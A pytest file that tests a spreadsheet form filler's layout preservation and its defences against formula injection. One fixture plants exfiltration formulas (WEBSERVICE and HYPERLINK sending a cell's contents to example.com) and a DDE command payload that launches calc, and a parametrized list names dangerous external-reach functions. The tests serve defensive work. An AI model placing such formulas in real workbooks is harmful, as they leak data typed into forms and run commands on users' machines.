"""The sender's workbook keeps its look, and nothing that is written into it can run or leave."""

import io

import openpyxl
import pytest
from openpyxl.styles import numbers

from portal.exchange.workbook_filler import Plan, fill, is_harmless
from tests.filling.builders import blank

pytestmark = pytest.mark.paper("S-114")
ROWS = [("王巧云", "3199**********2104"), ("=1+1", ""), ("石思源\x00", "3"), ("𠮷野", "4")]
MARK = "导出 EX-7　源园居委会"


def filled(content, rows=ROWS, places=((1, "text"), (2, "text"))):
    plan = Plan("登记表", 2, places, 0, MARK)
    return openpyxl.load_workbook(io.BytesIO(fill(content, plan, rows)))["登记表"]


def test_its_look_is_kept_and_the_foot_moves_down():
    sheet = filled(blank(room=3))
    assert [sheet.cell(row, 2).value for row in range(4, 8)] == ["王巧云", "=1+1", "石思源", "𠮷野"]
    assert [sheet.cell(row, 1).value for row in range(4, 8)] == [1, 2, 3, 4]
    assert sheet.column_dimensions["D"].width == 41
    assert sheet["A1"].font.sz == 16
    assert {str(each) for each in sheet.merged_cells.ranges} >= {"A1:G1", "A2:A3", "A8:C8"}
    assert [sheet.cell(row, 2).fill.fgColor.rgb for row in (4, 7)] == ["00FFEECC"] * 2
    assert [sheet.row_dimensions[row].height for row in (4, 7)] == [27, 27]
    assert sheet["A8"].value == "填表人："
    assert sheet["E8"].value == "=COUNTA(B4:B7)"
    assert sheet["C4"].number_format == numbers.FORMAT_TEXT
    assert MARK in sheet.oddFooter.left.text


def test_more_room_than_rows_leaves_the_rest_blank_and_the_foot_where_it_is():
    sheet = filled(blank(room=9))
    assert sheet["A13"].value == "填表人："
    assert sheet["E13"].value == "=COUNTA(B4:B12)"
    assert sheet["B8"].value is None


def test_running_numbers_that_the_form_brings_do_not_make_a_row_full():
    def numbered(_book, sheet):
        for row in range(4, 7):
            sheet.cell(row, 1, row - 3)

    assert filled(blank(room=3, change=numbered))["A8"].value == "填表人："


def test_cells_merged_in_each_row_are_merged_in_added_ones():
    def merged(_book, sheet):
        for row in (4, 5):
            sheet.merge_cells(start_row=row, end_row=row, start_column=6, end_column=7)

    sheet = filled(blank(room=2, change=merged))
    assert {"F6:G6", "F7:G7"} <= {str(each) for each in sheet.merged_cells.ranges}


def test_days_and_numbers_are_days_and_numbers():
    sheet = filled(blank(), [("46000", "62.5"), ("", "3")], ((1, "day"), (2, "number")))
    assert f"{sheet['B4'].value:%Y-%m-%d}" == "2025-12-09"
    assert (sheet["B4"].number_format, sheet["B5"].value) == ("yyyy-mm-dd", None)
    assert (sheet["C4"].value, sheet["C5"].value) == (62.5, 3)


def test_what_looks_like_a_formula_stays_text():
    cell = filled(blank())["B5"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


def test_a_form_cannot_carry_away_what_is_written_into_it():
    def spies(_book, sheet):
        sheet["H4"] = '=WEBSERVICE("http://example.com/?"&B4)'
        sheet["I4"] = '=HYPERLINK("http://example.com/?"&B4,"点这里")'
        sheet["J4"] = "=cmd|' /C calc'!A0"
        sheet["K4"] = '=IF(B4="",0,1)'

    sheet = filled(blank(foot=False, room=0, change=spies))
    found = [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert found == ['=IF(B4="",0,1)']


@pytest.mark.parametrize(
    "formula",
    ["=webservice(A1)", "=[1]表!A1", "=_xlfn.FILTERXML(A1,B1)", "=INDIRECT(A1)", "=a!b|c",
     "=CALL(1)", "=DDE(1)", "=SUM(A1)+EXEC(B1)"],
)  # fmt: skip
def test_formulas_that_reach_outside_are_not_harmless(formula):
    assert not is_harmless(formula)


def test_a_sheet_that_is_not_there_is_no_form():
    with pytest.raises(KeyError):
        fill(blank(), Plan("别的表", 2, [], None, MARK), [])
